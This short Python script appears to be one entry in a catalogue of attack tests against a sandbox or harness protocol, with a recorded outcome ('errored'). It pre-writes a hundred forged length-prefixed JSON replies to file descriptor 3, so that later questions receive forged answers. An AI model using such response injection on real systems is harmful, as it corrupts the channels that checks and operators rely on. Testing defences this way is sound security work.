"""Writes a hundred replies into the connection before they are asked for.

gain: forged answers are taken for those of later questions
catalogue: [A2]
verdict: errored
observed: answer 1
"""

import json
import os


def reply(value):
    header = json.dumps({"value": {"dict": [["value", value], ["forbidden", {"list": []}]]},
                         "tensors": []}).encode()
    frame = len(header).to_bytes(4, "big") + header
    return len(frame).to_bytes(8, "big") + frame


os.write(3, b"".join(reply(f"answer {number}") for number in range(100)))
